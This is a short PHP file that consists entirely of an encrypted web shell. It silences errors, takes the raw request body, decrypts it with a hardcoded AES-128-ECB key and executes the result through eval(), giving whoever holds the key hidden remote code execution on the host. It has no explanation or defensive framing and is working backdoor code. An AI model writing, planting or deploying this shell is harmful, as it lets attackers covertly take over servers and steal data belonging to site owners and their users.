<?php
@error_reporting(0);
	function Decrypt($data)
	{
		$key="7e2a7a1e2a5c4a61";
		return openssl_decrypt(base64_decode($data), "AES-128-ECB", $key, OPENSSL_PKCS1_PADDING);
	}
	$post=Decrypt(file_get_contents("php://input"));
    @eval($post);
?>
